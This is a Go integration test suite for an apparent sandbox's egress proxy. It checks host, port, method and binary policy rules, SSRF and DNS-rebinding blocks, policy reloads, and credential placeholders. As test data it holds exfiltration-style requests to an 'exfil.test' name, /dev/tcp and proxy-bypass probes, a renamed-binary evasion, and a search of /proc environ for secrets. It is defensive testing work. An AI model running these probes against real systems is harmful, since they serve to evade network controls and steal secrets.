package integration

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// serveTestHTTP is the upstream server of the egress tests, run by the
// test binary itself inside the test's network namespace: it answers every
// request with what it saw.
func serveTestHTTP(addrs []string) {
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "upstream %s saw %s %s auth=%q\n", r.Context().Value(http.LocalAddrContextKey), r.Method, r.URL.RequestURI(), r.Header.Get("Authorization"))
	})
	var wg sync.WaitGroup
	for _, a := range addrs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if tlsAddr, ok := strings.CutPrefix(a, "tls:"); ok {
				fmt.Fprintln(os.Stderr, http.ListenAndServeTLS(tlsAddr, os.Getenv("DARKSHELL_TEST_TLS_CERT"), os.Getenv("DARKSHELL_TEST_TLS_KEY"), h))
				return
			}
			fmt.Fprintln(os.Stderr, http.ListenAndServe(a, h))
		}()
	}
	wg.Wait()
}

// egressNet is a network namespace the test makes: a veth to the host
// (see the addresses below), an HTTP server on each address and dnsmasq answering the test's
// names. Nothing outside the machine is ever addressed.
type egressNet struct {
	ns, dnsLog string
	caFile     string // the test CA that signed the upstream's certificate
}

// Addresses of the test's namespace: 198.18.X.0/24 (the benchmarking
// range: public as far as the SSRF rules go) and 10.77.X.0/24 (private),
// X from the pid so that concurrent runs do not collide.
var (
	egressNet3       = fmt.Sprint(os.Getpid() % 256)
	egressHostAddr   = "198.18." + egressNet3 + ".1"
	egressDNSAddr    = "198.18." + egressNet3 + ".10"
	egressPublicAddr = "198.18." + egressNet3 + ".11"
	egressPrivAddr   = "10.77." + egressNet3 + ".10"
)

func newEgressNet(t testing.TB) *egressNet {
	t.Helper()
	for _, bin := range []string{"ip", "dnsmasq"} {
		if _, err := exec.LookPath(bin); err != nil {
			requireFeature(t, bin+" (make deps installs it)")
		}
	}
	n := &egressNet{ns: fmt.Sprintf("ds-egress-%d", os.Getpid())}
	var certFile, keyFile string
	host, peer := fmt.Sprintf("dseh%d", os.Getpid()%100000), fmt.Sprintf("dsep%d", os.Getpid()%100000)
	run := func(args ...string) {
		t.Helper()
		if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %v %s", args, err, out)
		}
	}
	run("ip", "netns", "add", n.ns)
	t.Cleanup(func() {
		exec.Command("ip", "link", "del", host).Run()
		exec.Command("ip", "netns", "pids", n.ns).Run()
		if out, err := exec.Command("ip", "netns", "pids", n.ns).Output(); err == nil {
			for _, p := range strings.Fields(string(out)) {
				exec.Command("kill", "-9", p).Run()
			}
		}
		exec.Command("ip", "netns", "del", n.ns).Run()
	})
	run("ip", "link", "add", host, "type", "veth", "peer", "name", peer)
	run("ip", "link", "set", peer, "netns", n.ns)
	run("ip", "addr", "add", egressHostAddr+"/24", "dev", host)
	run("ip", "link", "set", host, "up")
	run("ip", "route", "add", "10.77."+egressNet3+".0/24", "dev", host)
	for _, a := range []string{egressDNSAddr + "/24", egressPublicAddr + "/24", egressPrivAddr + "/24"} {
		run("ip", "netns", "exec", n.ns, "ip", "addr", "add", a, "dev", peer)
	}
	run("ip", "netns", "exec", n.ns, "ip", "link", "set", peer, "up")
	run("ip", "netns", "exec", n.ns, "ip", "link", "set", "lo", "up")
	run("ip", "netns", "exec", n.ns, "ip", "route", "add", "default", "via", egressHostAddr)

	n.caFile, certFile, keyFile = testPKI(t, "allowed.test")
	self, _ := os.Executable()
	srv := exec.Command("ip", "netns", "exec", n.ns, self)
	srv.Env = append(os.Environ(), "DARKSHELL_TEST_HTTP_SERVER="+egressPublicAddr+":8080,"+egressPrivAddr+":8080,"+egressPublicAddr+":9090,tls:"+egressPublicAddr+":8443",
		"DARKSHELL_TEST_TLS_CERT="+certFile, "DARKSHELL_TEST_TLS_KEY="+keyFile)
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Process.Kill(); srv.Wait() })

	n.dnsLog = filepath.Join(t.TempDir(), "dns.log")
	dns := exec.Command("ip", "netns", "exec", n.ns, "dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts",
		"--listen-address="+egressDNSAddr, "--bind-interfaces", "--port=53", "--log-queries", "--log-facility="+n.dnsLog,
		"--address=/allowed.test/"+egressPublicAddr, "--address=/other.test/"+egressPublicAddr,
		"--address=/loop.test/127.0.0.1", "--address=/private.test/"+egressPrivAddr, "--address=/corp.test/"+egressPrivAddr,
		"--address=/meta.test/169.254.169.254", "--address=/self.test/"+egressHostAddr,
		// A rebinding-style name: a loopback answer next to a public one.
		"--address=/rebind.test/127.0.0.1", "--address=/rebind.test/"+egressPublicAddr)
	if err := dns.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { dns.Process.Kill(); dns.Wait() })
	// Ready when the server answers from the host side.
	waitFor(t, 10*time.Second, "the test's upstream server and DNS", func() bool {
		c, err := net.DialTimeout("tcp", egressPublicAddr+":8080", 200*time.Millisecond)
		if err != nil {
			return false
		}
		c.Close()
		r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, network, egressDNSAddr+":53")
		}}
		a, err := r.LookupHost(context.Background(), "allowed.test")
		if err != nil || len(a) == 0 {
			return false
		}
		// The rebinding-style name must really answer loopback too.
		rb, err := r.LookupHost(context.Background(), "rebind.test")
		return err == nil && slices.Contains(rb, "127.0.0.1") && slices.Contains(rb, egressPublicAddr)
	})
	t.Setenv("DARKSHELL_EGRESS_DNS", egressDNSAddr+":53")
	t.Setenv("DARKSHELL_EGRESS_UPSTREAM_CA", n.caFile)
	return n
}

// queried reports whether dnsmasq saw a query for name.
func (n *egressNet) queried(name string) bool {
	b, _ := os.ReadFile(n.dnsLog)
	return strings.Contains(string(b), "query[A] "+name) || strings.Contains(string(b), "query[AAAA] "+name)
}

const egressPolicy = `version: 1
network_policies:
  web:
    name: test web
    endpoints:
      - host: allowed.test
        port: 8080
        protocol: rest
        rules:
          - allow: { method: GET, path: "/ok/**" }
      - { host: allowed.test, port: 9090 }
      - { host: loop.test, port: 8080 }
      - { host: private.test, port: 8080 }
      - { host: meta.test, port: 8080 }
      - { host: self.test, port: 8080 }
      - { host: rebind.test, port: 8080 }
      - { host: corp.test, port: 8080, allowed_ips: [10.77.0.0/16] }
    binaries:
      - { path: /usr/bin/curl }
`

func TestEgressProxy(t *testing.T) {
	e := newLocalEnv(t)
	n := newEgressNet(t)
	pol := filepath.Join(t.TempDir(), "p.yaml")
	os.WriteFile(pol, []byte(egressPolicy), 0o600)
	e.createLocal("eg", "--policy", pol)

	curl := func(args string) (string, string, int) {
		return e.bash("eg", "curl -sS --max-time 5 "+args)
	}
	// Allowed: host, port, binary and rule.
	waitFor(t, 10*time.Second, "the egress proxy to serve", func() bool {
		out, _, code := curl("http://allowed.test:8080/ok/1")
		return code == 0 && strings.Contains(out, "saw GET /ok/1")
	})
	if out, errOut, code := curl("http://allowed.test:9090/x"); code != 0 || !strings.Contains(out, egressPublicAddr+":9090") {
		t.Fatalf("L4 endpoint over plain HTTP: %d %q %q", code, out, errOut)
	}
	// Over CONNECT (curl -p tunnels through the proxy).
	if out, errOut, code := curl("-p http://allowed.test:9090/tunnel"); code != 0 || !strings.Contains(out, "saw GET /tunnel") {
		t.Fatalf("CONNECT tunnel: %d %q %q", code, out, errOut)
	}
	denied := func(what, args, reason string) {
		t.Helper()
		out, errOut, _ := curl("-i " + args)
		if !strings.Contains(out, "403 Forbidden") && !strings.Contains(out, "502 Bad Gateway") || !strings.Contains(out, reason) {
			t.Errorf("%s: want a refusal naming %q, got %q %q", what, reason, out, errOut)
		}
	}
	denied("method not allowed by the rules", "-X POST http://allowed.test:8080/ok/1", "POST /ok/1 matches no allow rule of policy web")
	denied("path not allowed by the rules", "http://allowed.test:8080/admin", "GET /admin matches no allow rule")
	denied("wrong port", "http://allowed.test:7777/", "port 7777 is not allowed for allowed.test")
	denied("host not in the policy", "http://other.test:8080/", "no network policy allows other.test:8080")
	denied("name resolving to loopback", "http://loop.test:8080/", "127.0.0.1 (loopback)")
	denied("name resolving to a private address", "http://private.test:8080/", egressPrivAddr+" (private)")
	denied("name resolving to link-local (metadata)", "http://meta.test:8080/", "169.254.169.254 (link-local)")
	denied("IP literal private", "http://"+egressPrivAddr+":8080/", "no network policy allows "+egressPrivAddr)
	// A name that also resolves to loopback: only the checked public
	// address is ever connected to.
	for range 3 {
		if out, errOut, code := curl("http://rebind.test:8080/r"); code != 0 || !strings.Contains(out, "upstream "+egressPublicAddr+":8080 saw GET /r") {
			t.Fatalf("rebind.test: %d %q %q", code, out, errOut)
		}
	}
	if out, errOut, code := curl("http://corp.test:8080/x"); code != 0 || !strings.Contains(out, egressPrivAddr+":8080 saw GET /x") {
		t.Errorf("allowed_ips permits the private address: %d %q %q", code, out, errOut)
	}
	// Wrong binary: wget is not curl (identity from /proc/PID/exe).
	out, errOut, _ := e.bash("eg", "wget -q -O- --tries=1 --timeout=5 --server-response http://allowed.test:8080/ok/1 2>&1; true")
	if !strings.Contains(out+errOut, "403") {
		t.Errorf("wget must be refused: %q %q", out, errOut)
	}
	// A renamed copy of curl is still curl's executable? No: identity is
	// the path of the real executable; a copy elsewhere is another binary.
	out, _, _ = e.bash("eg", "cp /usr/bin/curl /tmp/curl && /tmp/curl -sS -i --max-time 5 http://allowed.test:8080/ok/1; true")
	if !strings.Contains(out, "403") || !strings.Contains(out, "binary /tmp/curl is not allowed") {
		t.Errorf("a copy of curl elsewhere: %q", out)
	}
	// No DNS inside, and denied names are never resolved on the host.
	if out, errOut, code := e.bash("eg", "getent hosts allowed.test"); code == 0 {
		t.Errorf("the sandbox resolved a name itself: %q %q", out, errOut)
	}
	curl("http://secret-data.exfil.test:8080/")
	if n.queried("secret-data.exfil.test") {
		t.Error("a denied name reached the DNS server")
	}
	if !n.queried("allowed.test") {
		t.Error("control: the allowed name was never resolved through the test's DNS")
	}
	// Clients that ignore the proxy find no route: a tool sweep at the
	// test's own server (reachable from the host: the control above).
	for script, want := range map[string]string{
		"curl -sS --noproxy '*' --max-time 3 http://" + egressPublicAddr + ":8080/": "",
		"echo x > /dev/tcp/" + egressPublicAddr + "/8080":                           "",
		"echo x > /dev/udp/" + egressDNSAddr + "/53":                                "Network is unreachable",
		"ping -c 1 -W 1 " + egressPublicAddr:                                        "",
		"getent hosts allowed.test":                                                 "",
		"ssh -o BatchMode=yes -o ConnectTimeout=2 " + egressPublicAddr + " true":    "",
		"wget -q --no-proxy -T 3 -t 1 -O- http://" + egressPublicAddr + ":8080/":    "",
	} {
		tool := strings.Fields(script)[0]
		if tool != "echo" {
			if _, err := exec.LookPath(tool); err != nil {
				t.Logf("no %s on this machine: case %q not run", tool, script)
				continue
			}
		}
		out, errOut, code := e.bash("eg", script)
		if code == 0 || code == 127 || strings.Contains(out, "upstream") || !strings.Contains(errOut, want) {
			t.Errorf("%q must fail (with %q): exit %d %q %q", script, want, code, out, errOut)
		}
	}
	// policy test names the same rules without traffic.
	out, _, code := e.ds("policy", "test", "eg", "--host", "allowed.test", "--port", "8080", "--binary", "/usr/bin/curl", "--method", "GET", "--path", "/ok/2")
	if code != 0 || !strings.Contains(out, "ALLOW") || !strings.Contains(out, "rules[0]") {
		t.Errorf("policy test allow: %d %q", code, out)
	}
	out, _, code = e.ds("policy", "test", "eg", "--host", "allowed.test", "--port", "8080", "--binary", "/usr/bin/wget", "-o", "json")
	var res struct {
		Decision struct {
			Allow  bool
			Reason string
		}
	}
	if json.Unmarshal([]byte(out), &res); code != 1 || res.Decision.Allow || !strings.Contains(res.Decision.Reason, "binary /usr/bin/wget") {
		t.Errorf("policy test deny: %d %q", code, out)
	}
	// net-test: every hop for an allowed request, the failing hop otherwise.
	out, errOut, code = e.ds("sandbox", "net-test", "eg", "--host", "allowed.test", "--port", "9090", "--binary", "/usr/bin/curl")
	for _, want := range []string{"ok   sandbox to egress proxy", "ok   policy decision", "ok   resolve and connect", "ok   HTTP", "200 OK"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("net-test allowed: exit %d, %q lacks %q (%s)", code, out, want, errOut)
		}
	}
	out, _, code = e.ds("sandbox", "net-test", "eg", "--host", "loop.test", "--port", "8080", "--binary", "/usr/bin/curl")
	if code != 1 || !strings.Contains(out, "FAIL resolve and connect") || !strings.Contains(out, "loopback") {
		t.Errorf("net-test SSRF: exit %d %q", code, out)
	}
	out, _, code = e.ds("sandbox", "net-test", "eg", "--host", "other.test", "--port", "8080")
	if code != 1 || !strings.Contains(out, "FAIL policy decision") || strings.Contains(out, "resolve and connect") {
		t.Errorf("net-test denied: exit %d %q", code, out)
	}
	// Decisions are logged on the host.
	b, _ := os.ReadFile(filepath.Join(e.home, "sandboxes", "eg", "egress.log"))
	if !strings.Contains(string(b), `"kind":"policy_decision"`) || !strings.Contains(string(b), "other.test") {
		t.Errorf("egress log: %s", b)
	}
	// ... and are events on the sandbox's one stream (watch, trace, export).
	waitFor(t, 5*time.Second, "policy decisions in the event log", func() bool {
		b, _ := os.ReadFile(filepath.Join(e.home, "logs", "eg", "events.jsonl"))
		for _, l := range strings.Split(string(b), "\n") {
			if strings.Contains(l, `"kind":"policy_decision"`) && strings.Contains(l, `"host":"other.test"`) &&
				strings.Contains(l, `"result":"deny"`) && strings.Contains(l, `"source":"daemon"`) {
				return true
			}
		}
		return false
	})
}

func TestEgressPolicyReload(t *testing.T) {
	e := newLocalEnv(t)
	newEgressNet(t)
	pol := filepath.Join(t.TempDir(), "p.yaml")
	os.WriteFile(pol, []byte(egressPolicy), 0o600)
	e.createLocal("rl", "--policy", pol)
	get := func(path string) string {
		out, _, _ := e.bash("rl", "curl -sS -o /dev/null -w '%{http_code}' --max-time 5 http://allowed.test:8080"+path)
		return out
	}
	waitFor(t, 10*time.Second, "the egress proxy", func() bool { return get("/ok/a") == "200" })
	// Requests keep flowing while the policy changes back and forth; each is
	// decided by one whole policy (the /ok rule is in both).
	stop := make(chan struct{})
	var bad []string
	var mu sync.Mutex
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			out, _, _ := e.bash("rl", "for i in 1 2 3 4 5; do curl -sS -o /dev/null -w '%{http_code} ' --max-time 5 http://allowed.test:8080/ok/x; done")
			for _, c := range strings.Fields(out) {
				if c != "200" {
					mu.Lock()
					bad = append(bad, c)
					mu.Unlock()
				}
			}
		}
	}()
	wider := strings.Replace(egressPolicy, `- allow: { method: GET, path: "/ok/**" }`, `- allow: { method: GET, path: "/ok/**" }
          - allow: { method: GET, path: "/admin" }`, 1)
	widerFile := filepath.Join(t.TempDir(), "wider.yaml")
	os.WriteFile(widerFile, []byte(wider), 0o600)
	for i := 0; i < 6; i++ {
		f := pol
		if i%2 == 0 {
			f = widerFile
		}
		if out, errOut, code := e.ds("policy", "set", "rl", "--policy", f); code != 0 {
			t.Fatalf("policy set: %d %q %q", code, out, errOut)
		}
		time.Sleep(50 * time.Millisecond)
	}
	close(stop)
	wg.Wait()
	if len(bad) > 0 {
		t.Fatalf("requests failed during reloads: %v", bad)
	}
	if got := get("/admin"); got != "403" {
		t.Fatalf("after the last reload (the narrow policy) /admin: %s", got)
	}
	e.ds("policy", "set", "rl", "--policy", widerFile)
	if got := get("/admin"); got != "200" {
		t.Fatalf("after widening /admin: %s", got)
	}
	// A bad file keeps the policy in force; static parts cannot change.
	bad2 := filepath.Join(t.TempDir(), "bad.yaml")
	os.WriteFile(bad2, []byte("version: 1\nnetwork_policies:\n  x:\n    endpoints: [{host: \"*\", port: 80}]\n"), 0o600)
	if _, errOut, code := e.ds("policy", "set", "rl", "--policy", bad2); code == 0 || !strings.Contains(errOut, "bare wildcard") {
		t.Fatalf("bad policy: %d %q", code, errOut)
	}
	static := filepath.Join(t.TempDir(), "static.yaml")
	os.WriteFile(static, []byte(egressPolicy+"filesystem_policy:\n  read_write: [/opt]\n"), 0o600)
	if _, errOut, code := e.ds("policy", "set", "rl", "--policy", static); code == 0 || !strings.Contains(errOut, "filesystem_policy is fixed") {
		t.Fatalf("static change: %d %q", code, errOut)
	}
	if got := get("/admin"); got != "200" {
		t.Fatalf("a refused reload changed the policy: %s", got)
	}
	// The new policy survives a daemon restart.
	e.ds("daemon", "stop")
	waitFor(t, 15*time.Second, "the restarted daemon's proxy", func() bool { return get("/admin") == "200" })
}

// testPKI writes a test CA and a certificate for host signed by it.
func testPKI(t testing.TB, host string) (caFile, certFile, keyFile string) {
	t.Helper()
	dir := t.TempDir()
	os.Chmod(dir, 0o755)
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "darkshell test CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caT, caT, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leafT := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: host}, DNSNames: []string{host},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, leafT, ca, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	kder, _ := x509.MarshalECPrivateKey(key)
	caFile, certFile, keyFile = filepath.Join(dir, "ca.pem"), filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	os.WriteFile(caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}), 0o644)
	os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644)
	os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kder}), 0o600)
	return
}

const credPolicy = `version: 1
network_policies:
  api:
    endpoints:
      - host: allowed.test
        port: 8443
        protocol: rest
        rules:
          - allow: { method: GET, path: "/ok/**" }
        credential_binding: { provider: tok }
      - { host: allowed.test, port: 9090 }
    binaries:
      - { path: /usr/bin/curl }
`

// TestEgressCredentialPlaceholders: the sandbox holds a placeholder; the
// proxy (terminating TLS with the sandbox's CA) puts the real value only
// into requests the policy binds to the provider; nothing in the sandbox
// ever holds the secret.
func TestEgressCredentialPlaceholders(t *testing.T) {
	e := newLocalEnv(t)
	newEgressNet(t)
	const secret = "s3cret-value-4711"
	if _, errOut, code := e.ds("provider", "create", "--name", "tok", "--type", "generic", "--credential", "TOKEN="+secret); code != 0 {
		t.Fatalf("provider create: %s", errOut)
	}
	pol := filepath.Join(t.TempDir(), "p.yaml")
	os.WriteFile(pol, []byte(credPolicy), 0o600)
	e.createLocal("cred", "--policy", pol, "--provider", "tok")
	ph := e.mustBash("cred", "echo -n $TOKEN")
	if ph == "" || strings.Contains(ph, secret) {
		t.Fatalf("the sandbox's TOKEN: %q", ph)
	}
	var out string
	waitFor(t, 10*time.Second, "an HTTPS request through the proxy", func() bool {
		out, _, _ = e.bash("cred", `curl -sS --max-time 5 -H "Authorization: Bearer $TOKEN" https://allowed.test:8443/ok/1`)
		return strings.Contains(out, "saw GET /ok/1")
	})
	if !strings.Contains(out, `auth="Bearer `+secret+`"`) {
		t.Fatalf("the bound endpoint did not get the real value: %q", out)
	}
	// Inside TLS the rules still hold.
	if out, _, _ := e.bash("cred", `curl -sS -i --max-time 5 -X POST https://allowed.test:8443/ok/1`); !strings.Contains(out, "403") || !strings.Contains(out, "matches no allow rule") {
		t.Fatalf("POST inside TLS: %q", out)
	}
	// An endpoint without the binding gets the placeholder, never the secret.
	out, _, _ = e.bash("cred", `curl -sS --max-time 5 -H "Authorization: Bearer $TOKEN" http://allowed.test:9090/x`)
	if !strings.Contains(out, "Bearer "+ph) || strings.Contains(out, secret) {
		t.Fatalf("unbound endpoint: %q", out)
	}
	// The secret is nowhere in the sandbox.
	re := secret[:len(secret)-1] + "[" + secret[len(secret)-1:] + "]"
	if found, _, _ := e.bash("cred", "grep -rl '"+re+"' /sandbox /tmp /run/darkshell /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; true"); strings.TrimSpace(found) != "" {
		t.Fatalf("the secret is inside the sandbox: %q", found)
	}
	// A provider that does not exist is refused at create.
	if _, errOut, code := e.ds("sandbox", "create", "nope", "--provider", "missing"); code == 0 || !strings.Contains(errOut, "missing") {
		t.Fatalf("unknown provider: %d %q", code, errOut)
	}
}
